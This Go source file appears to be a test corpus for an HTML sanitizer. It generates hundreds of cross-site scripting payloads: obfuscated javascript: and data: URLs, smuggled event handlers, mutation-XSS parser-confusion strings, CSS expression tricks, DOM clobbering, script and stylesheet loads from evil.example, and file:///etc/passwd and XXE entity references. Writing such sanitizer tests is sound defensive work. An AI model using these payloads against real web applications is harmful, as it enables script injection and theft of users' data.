package markup

import (
	"fmt"
	"strings"
)

// attacks are the written ones, and every spelling of an address in every
// place that takes one, every handler in every position, every mutation in
// every wrapper.
func attacks() []string {
	all := append([]string{}, vectors...)
	all = append(all, written...)
	for _, place := range places {
		for _, s := range spellings {
			all = append(all, strings.ReplaceAll(place, "@", s))
		}
	}
	for _, b := range smuggled {
		for _, h := range handlers {
			all = append(all, strings.ReplaceAll(b, "@", h))
		}
	}
	for _, w := range wrappers {
		for _, m := range mutations {
			all = append(all, strings.ReplaceAll(w, "@", m))
		}
	}
	for i := range 33 { // every control character before, within and after a scheme
		all = append(all, fmt.Sprintf("<a href=\"%cjavascript:x\">kept</a>", rune(i)), fmt.Sprintf("<a href=\"java%cscript:x\">kept</a>", rune(i)), fmt.Sprintf("<a href=\"javascript%c:x\">kept</a>", rune(i)),
			fmt.Sprintf("<a href=\"&#%d;javascript:x\">kept</a>", i), fmt.Sprintf("<a href=\"java&#x%x;script:x\">kept</a>", i), fmt.Sprintf("<p%conclick=x>kept", rune(i)), fmt.Sprintf("<p onclick%c=x>kept", rune(i)), fmt.Sprintf("<scr%cipt>x</script>kept", rune(i)))
	}
	return all
}

// spellings of an address that runs something.
var spellings = []string{
	"javascript:x()", "JAVASCRIPT:x()", "jAvAsCrIpT:x()", " javascript:x()", "\tjavascript:x()", "\njavascript:x()", "java\tscript:x()", "java\nscript:x()", "java\rscript:x()", "javascript\t:x()",
	"&#106;avascript:x()", "&#x6a;avascript:x()", "&#X6A;avascript:x()", "&#0000106avascript:x()", "javascript&colon;x()", "javascript&#58;x()", "javascript&#x3a;x()", "java&Tab;script:x()", "java&NewLine;script:x()", "&#1;javascript:x()",
	"\u00a0javascript:x()", "\u200bjavascript:x()", "\ufeffjavascript:x()", "\u2028javascript:x()", "javascript:/*--></title></style></textarea></script><svg/onload=x()>", "javascript://%0ax()", "javascript:'\\x3csvg onload=x()>'", "view-source:javascript:x()", "jar:javascript:x()!/",
	"vbscript:x", "VBScript:x", "livescript:x", "mocha:x", "data:text/html,x", "data:text/html;base64,eA==", "DATA:text/html,x", "data:;base64,eA==", "data:image/svg+xml,x", "data:application/xhtml+xml,x", "data:text/xml,x", "data:,x", "data&colon;text/html,x",
	"blob:https://e.example/x", "filesystem:https://e.example/x", "file:///etc/passwd", "ftp://e.example/x", "about:blank", "ws://e.example/", "tel:1", "intent://x#Intent;end", "ms-appx:x", "chrome://x", "x-apple:x", "feed:javascript:x()", "feed:feed:javascript:x()",
	"javascript%3Ax()", "java%0ascript:x()", "//", "http:", "http:javascript:x()", "https:/\\javascript:x()", "://x", "url(javascript:x())", "javas\u0000cript:x()", "javascript\u0000:x()",
}

// places that take an address.
var places = []string{
	`<a href="@">kept</a>`, `<a href='@'>kept</a>`, `<area href="@">kept`, `<img src="@">kept`, `<img lowsrc="@" dynsrc="@">kept`, `<img data-src="@">kept`, `<img srcset="@ 1x, @ 2x">kept`, `<svg><a xlink:href="@"><text>kept</text></a></svg>`, `<svg><a href="@"><text>kept</text></a></svg>`,
	`<math><mi xlink:href="@">kept</mi></math>`, `<math href="@"><mi>kept</mi></math>`, `<video src="@" poster="@">kept</video>`, `<audio><source src="@"></audio>kept`, `<picture><source srcset="@"><img></picture>kept`, `<blockquote cite="@">kept</blockquote>`, `<q cite="@">kept</q>`, `<del cite="@">kept</del>`,
	`<form action="@">kept<button formaction="@">kept</button></form>`, `<table background="@"><tr><td background="@">kept</table>`, `<iframe src="@"></iframe>kept`, `<embed src="@">kept`, `<base href="@">kept`, `<link rel=stylesheet href="@">kept`, `<meta http-equiv=refresh content="0;url=@">kept`,
	`<svg><image xlink:href="@"/><use href="@"/><text>kept</text></svg>`, `<p style="background:url(@)">kept</p>`, `<p style="list-style-image:url('@')">kept</p>`, `<img longdesc="@" usemap="@">kept`, `<track src="@">kept`, `<input type=image src="@">kept`, `<body background="@">kept`,
}

// handlers as they are spelt.
var handlers = []string{
	`onclick=x()`, `ONCLICK=x()`, `onclick = x()`, `onclick="x()"`, `onclick='x()'`, "onclick=`x()`", `onerror=x()`, `onload=x() `, `onpointerover=x()`, `ontoggle=x()`, `onbegin=x()`, `onfocus=x() autofocus`, `onanimationend=x() style=animation:x`, `onscrollend=x()`, `onbeforetoggle=x() popover`, `/onclick=x()`, `"onclick=x()`, `x="y"onclick=x()`, `x=y/onclick=x()`, `on click=x() onclick=x()`,
}

// smuggled are the places where a handler may be smuggled in.
var smuggled = []string{
	`<p @>kept</p>`, `<p/@>kept</p>`, "<p\n@>kept</p>", "<p\f@>kept</p>", `<img src=x @>kept`, `<img src="x"@>kept`, `<img alt="a"/@/>kept`, `<svg @><text>kept</text></svg>`, `<svg><g @><text>kept</text></g></svg>`, `<math @><mi>kept</mi></math>`, `<details open @>kept</details>`,
	`<video @><source @></video>kept`, `<x-y @>kept</x-y>`, `<body @>kept`, `</p @>kept`, `<a href="http://a.example/" @>kept</a>`, `<a title="x&quot; @">kept</a>`, `<a title="&quot;><p @>">kept</a>`, `<p title='a"@'>kept</p>`, `<marquee @>kept</marquee>`, `<img src=x:alert(alt) @ alt=x>kept`, `<table @><tr @><td @>kept</table>`,
}

// mutations hide a tag from one parser and show it to the next.
var mutations = []string{
	`<img src=x onerror=x()>`, `<script>x()</script>`, `<style><img src=x onerror=x()></style>`, `<p id="</style><img src=x onerror=x()>">`, `<a title="</title><img src=x onerror=x()>">`, `<a title="--><img src=x onerror=x()>">`, `<a title="]]><img src=x onerror=x()>">`,
	`<a title="</noscript><img src=x onerror=x()>">`, `<a title="</textarea><img src=x onerror=x()>">`, `<a title="</xmp><img src=x onerror=x()>">`, `<a title="</template><img src=x onerror=x()>">`, `<a title="</svg><img src=x onerror=x()>">`, `<a title="</math><img src=x onerror=x()>">`, `<a title="</select><img src=x onerror=x()>">`,
	`<!--<img src="--><img src=x onerror=x()>">`, `<!--><img src=x onerror=x()>-->`, `<!-- --!><img src=x onerror=x()> -->`, `<![CDATA[<img src=x onerror=x()>]]>`, `<![CDATA[><img src=x onerror=x()>]]>`, `<?x <img src=x onerror=x()>?>`, `&lt;img src=x onerror=x()&gt;`, `&amp;lt;img src=x onerror=x()&amp;gt;`,
	`<mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=x()&gt;">`, `<malignmark><style><!--</style><img title="--><img src=x onerror=x()>">`, `<desc><style><a title="</style><img src=x onerror=x()>">`, `<title><style><a title="</style><img src=x onerror=x()>">`, `<foreignObject><style><a title="</style><img src=x onerror=x()>">`,
	`<annotation-xml encoding="text/html"><style><a title="</style><img src=x onerror=x()>">`, `</p><style><a title="</style><img src=x onerror=x()>">`, `</br><style><a title="</style><img src=x onerror=x()>">`, `<iframe><a title="</iframe><img src=x onerror=x()>">`, `<noembed><a title="</noembed><img src=x onerror=x()>">`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=x()>">`, `<table><mglyph><style><!--</style><img title="--><img src=x onerror=x()>">`, `<select><option><style></option></select><img src=x onerror=x()></style>`, `<option><p><style><a title="</style><img src=x onerror=x()>">`, `<plaintext><img src=x onerror=x()>`,
	`<font color=red><p></font><svg><style><a title="</style><img src=x onerror=x()>">`, `<h1><h2><style><a title="</style><img src=x onerror=x()>">`, `<a><a><style><a title="</style><img src=x onerror=x()>">`, `<nobr><nobr><svg><desc><nobr><style><a title="</style><img src=x onerror=x()>">`,
}

var wrappers = []string{
	`kept @`, `<svg>@`, `<svg><p>@`, `<svg></p>@`, `<svg><desc>@`, `<svg><title>@`, `<svg><foreignObject>@`, `<svg><style>@`, `<math>@`, `<math><mtext>@`, `<math><mi>@`, `<math><mtext><table>@`, `<math><annotation-xml encoding="text/html">@`, `<form><math><mtext></form><form>@`,
	`<noscript>@</noscript>kept`, `<template>@</template>kept`, `<select>@</select>kept`, `<select><option>@</select>kept`, `<textarea>@</textarea>kept`, `<xmp>@</xmp>kept`, `<title>@</title>kept`, `<iframe>@</iframe>kept`, `<noembed>@</noembed>kept`, `<noframes>@</noframes>kept`, `<table>@</table>kept`, `<table><tr><td>@</table>kept`, `<table><caption>@</table>kept`,
	`<button>@</button>kept`, `<object>@</object>kept`, `<video>@</video>kept`, `<p>@</p>kept`, `<a href=x>@</a>kept`, `<pre>@</pre>kept`, `<ruby>@<rt>x</ruby>kept`, `<dialog open>@</dialog>kept`, `<fieldset><legend>@</fieldset>kept`, `<details><summary>@</details>kept`,
}

// written are those that fit no scheme.
var written = []string{
	`<a id=location href="http://a.example/">kept</a>`, `<form id=document><input name=cookie>kept</form>`, `<img name=body>kept`, `<a id=x><a id=x name=y href=1>kept</a>`, `<form name=forms><output name=length>kept</form>`, `<map id=all name=all><area></map>kept`, `<iframe name=self></iframe>kept`, `<embed name=window>kept`, `<object id=top></object>kept`,
	`<button form=x formaction=y>kept</button>`, `<input form=login name=password>kept`, `<label for=x>kept</label>`, `<output form=login>kept</output>`, `<fieldset form=login>kept</fieldset>`, `<select form=login name=role><option value=admin>kept</select>`,
	`<base href="//evil.example/">kept`, `<base target=_parent>kept`, `<meta charset=utf-7>+ADw-script+AD4-x()+ADw-/script+AD4-kept`, `<meta http-equiv=Content-Security-Policy content="script-src *">kept`, `<link rel=preload href=//evil.example as=script>kept`, `<link rel=dns-prefetch href=//evil.example>kept`,
	`<img srcset="//evil.example/a,b 1x, javascript:x 2x, data:text/html,x 3x">kept`, `<img srcset=",,,, javascript:x">kept`, `<img src sizes="(url(javascript:x))" srcset="a 1x">kept`, `<source srcset="data:image/svg+xml,<svg/onload=x> 1x">kept`, `<img src="data:image/png;base64,AAAA" onload=x>kept`, `<img src="data:image/png,<script>x</script>">kept`,
	`<img src="data:image/svg+xml;base64,PHN2Zy8+">kept`, `<img src="DATA:IMAGE/SVG+XML,x">kept`, `<img src="data: image/svg+xml,x">kept`, `<img src="data:image/png;x=&quot;&gt;,y">kept`, `<img src="data:imagex/png,x">kept`, `<img src="&#100;ata:text/html,x">kept`, `<video poster="data:image/svg+xml,x">kept</video>`,
	`<p style="width:expression(x())">kept`, `<p style="width:e\78pression(x())">kept`, `<p style="width:exp/**/ression(x())">kept`, `<p style="xss:expression(x())">kept`, `<p style="-moz-binding:url(//evil.example)">kept`, `<p style="behavior:url(#default#time2)">kept`, `<p style="@import '//evil.example'">kept`,
	`<p style="background:u\rl(javascript:x)">kept`, `<p style="background-image:\0075\0072\006C('javascript:x')">kept`, `<p style="background:url(&#106;avascript:x)">kept`, `<p style="color:red;}body{background:url(x)}">kept`, `<p style="font-family:'x&#39;;background:url(x)'">kept`, `<p style="font-family:&quot;url(javascript:x)&quot;">kept`,
	`<p style="content:attr(title)">kept`, `<p style="width:calc(1px*var(--x))">kept`, `<p style="background:image-set('x' 1x)">kept`, `<p style="background:-webkit-image-set(url(x) 1x)">kept`, `<p style="position:absolute;z-index:9999">kept`, `<p style="POSITION:FIXED">kept`, `<p style="display:block;position : fixed">kept`, `<p style="animation:x 1s">kept`, `<p style="cursor:url(x),auto">kept`, `<p style="filter:url(x#y)">kept`,
	`<p style="color:&#x72;ed;background:&#x75;rl(x)">kept`, `<p style=color:red;background:url(x)>kept`, `<p style='a:b;"c:url(x)'>kept`, "<p style='color:red\x00;background:url(x)'>kept", `<p style="color:rgb(1,2,3);width:min(1px,2px)">kept`, `<svg style="fill:url(//evil.example#x)"><text>kept</text></svg>`, `<svg fill="url(//evil.example#x)"><text stroke="url(#y)">kept</text></svg>`,
	`<svg><rect mask="url(//evil.example#x)" clip-path="url(x)" filter="url(x)"/><text>kept</text></svg>`, `<svg><animate attributeName=href values="javascript:x" /><a><text>kept</text></a></svg>`, `<svg><a><animate attributeName=xlink:href from=javascript:x to=y /><text>kept</text></a></svg>`, `<svg><set attributeName=href to=javascript:x /><text>kept</text></svg>`, `<svg><handler type="text/javascript">x</handler><text>kept</text></svg>`,
	`<svg><use xlink:href="data:image/svg+xml;base64,eA==#x"/><text>kept</text></svg>`, `<svg><image href="//evil.example/x.svg"/><text>kept</text></svg>`, `<svg><feImage href="x"/><text>kept</text></svg>`, `<svg><foreignObject><iframe src=javascript:x></iframe></foreignObject><text>kept</text></svg>`, `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:x"><text>kept</text></a></svg>`,
	`<svg><script xlink:href="data:,x()"></script><text>kept</text></svg>`, `<svg><script>x()<!-- </script><text>kept</text>--></svg>`, `<svg><![CDATA[<img src=x onerror=x()>]]><text>kept</text></svg>`, `<svg><style>*{fill:url(javascript:x)}</style><text>kept</text></svg>`, `<svg onload=x()><text>kept</text>`, `<svg/onload=x()>kept`, "<svg\tonload\n=\fx()>kept",
	`<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:x">kept</maction></math>`, `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>x</script></annotation-xml></semantics><mi>kept</mi></math>`, `<math><mrow xlink:type="simple" xlink:href="javascript:x"><mi>kept</mi></mrow></math>`, `<math definitionURL="javascript:x"><mi>kept</mi></math>`, `<math><mglyph src="javascript:x"/><mi>kept</mi></math>`,
	`<<img src=x onerror=x()>>kept`, `<<<script>x()</script>kept`, `<scr<script>ipt>x()</scr</script>ipt>kept`, `<scrİpt>x()</scrİpt>kept`, `<ſcript>x()</ſcript>kept`, `<script x>x()</script\n>kept</script >kept`, `<script>/*</script><script>*/x()</script>kept`, `<script><!--<script></script>x()--></script>kept`, `<script src="//evil.example">kept`, `<script type=module>x()</script>kept`,
	`<style>@import "//evil.example"</style>kept`, `<style></style   ><script>x()</script>kept`, `<style><!--</style><script>x()</script>--></style>kept`, `<style media=x>p{}</sty le></style>kept`, `<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>kept`, `<iframe src="//evil.example">kept`, `<iframe></iframe x><script>x()</script>kept`, `<frameset onload=x()><frame src=javascript:x></frameset>kept`,
	`<object data="data:text/html,x"><param name=src value=x>kept</object>`, `<object type="text/x-scriptlet" data=x>kept</object>`, `<embed code=x allowscriptaccess=always>kept`, `<applet code=x>kept</applet>`, `<portal src=x>kept</portal>`, `<fencedframe src=x>kept</fencedframe>`, `<x-slot slot=x is=x-evil>kept</x-slot>`, `<p is=x-evil>kept</p>`, `<template shadowrootmode=open><script>x()</script></template>kept`, `<p popovertarget=x popover>kept</p>`,
	`<a href="http://a.example/" target=_blank rel=opener>kept</a>`, `<a href="http://a.example/" ping="//evil.example">kept</a>`, `<a href="http://a.example/" download=x>kept</a>`, `<a href="http://user:pass@a.example/">kept</a>`, `<a href="http://a.example\@evil.example/">kept</a>`, `<a href="mailto:a@b.example?body=%0d%0abcc:x">kept</a>`, "<a href=\"mailto:a@b.example\r\nbcc:x\">kept</a>", `<a href="mailto:javascript:x">kept</a>`,
	`<p contenteditable onfocus=x() autofocus tabindex=1>kept</p>`, `<p accesskey=x onclick=x()>kept</p>`, `<input autofocus onfocus=x()>kept`, `<keygen autofocus onfocus=x()>kept`, `<video autoplay loop src=http://a.example/v onplay=x()>kept</video>`, `<audio autoplay src=http://a.example/v>kept</audio>`, `<bgsound src=x>kept`, `<isindex prompt=x action=javascript:x>kept`, `<menuitem icon=javascript:x>kept`, `<command icon=javascript:x>kept`,
	`<table><tr><td><script>x()</script>kept</td></tr></table>`, `<table><script>x()</script><tr><td>kept</table>`, `<table><style><script>x()</script></style><tr><td>kept</table>`, `<table><input type=hidden onfocus=x()><tr><td>kept</table>`, `<table>kept<svg><style></table><img src=x onerror=x()></style>`, `<select><svg><style></select><img src=x onerror=x()></style>kept`, `<select><script>x()</script><option>kept</select>`, `<select><keygen><input><textarea></select><img src=x onerror=x()></textarea>kept`,
	`<textarea></textarea ><img src=x onerror=x()>kept`, `<textarea><textarea></textarea><img src=x onerror=x()>kept`, `<title></title/><img src=x onerror=x()>kept`, `<xmp></xmp\x00><img src=x onerror=x()>kept</xmp>`, `<plaintext><script>kept`, `<listing>&lt;img src=x onerror=x()&gt;kept</listing>`, `<pre>` + "\n\n" + `<img src=x onerror=x()>kept</pre>`, `<noscript><style></noscript><img src=x onerror=x()></style>kept`, `<noscript><!--</noscript><img src=x onerror=x()>-->kept`,
	"kept\x00<\x00script>x()</script>", "kept<img src=x\x00 onerror=x()>", "kept<img/src=\"x\"\x00onerror=x()>", "kept<\u2028script>x()</script>", "kept\xc0\xbcscript>x()</script>", "kept\xff<script\xff>x()</script>", "kept\u00bcscript\u00be", "kept＜script＞x()＜/script＞", "kept<%00script>x()</script>", "kept<script\u00a0>x()</script>",
	`kept&lt;script&gt;x()&lt;/script&gt;`, `kept&#60;script&#62;x()`, `kept&#x3c;script&#x3e;x()`, `kept&LT;script&GT;x()`, `kept&amp;#60;script&amp;#62;x()`, `kept&lt<script>x()</script>`, `kept<a title="&lt;script&gt;">kept</a>`, `kept<a title='&#39; onclick=x() &#39;'>kept</a>`, `kept<a title="&#34; onclick=x() &#34;">kept</a>`, "kept<a title=\"`\" alt=\"` onclick=x()\">kept</a>", `kept<a title=a&quot;onclick=x()>kept</a>`,
	`kept<a href="?x=&quot;><script>x()</script>">kept</a>`, `kept<a href=#x onclick=x()>kept</a>`, `kept<a href='x&#39; onclick=&#39;x()'>kept</a>`, `kept<!doctype html><script>x()</script>`, `kept<!DOCTYPE x [<!ENTITY y "<script>x()</script>">]>&y;`, `kept<!ENTITY x SYSTEM "file:///etc/passwd">`, `kept<?xml-stylesheet href="javascript:x"?>`, `kept<?php echo "<script>x()</script>" ?>`, `kept<% <script>x()</script> %>`, `kept<!-<script>x()</script>->`, `kept<!--x--!><script>x()</script>`, `kept<!--[if gte IE 4]><script>x()</script><![endif]-->`, `kept<comment><img src="</comment><img src=x onerror=x()>"></comment>`,
	strings.Repeat("<b>", 200) + "kept<script>x()</script>", strings.Repeat("<svg>", 60) + "kept<style><img src=x onerror=x()>", strings.Repeat("<table><tr><td>", 40) + "kept<style><img src=x onerror=x()>", strings.Repeat("<math><mtext>", 40) + "kept<style><img src=x onerror=x()>", strings.Repeat("<p><form>", 90) + "kept<math><mtext></form><style><img src=x onerror=x()>",
}
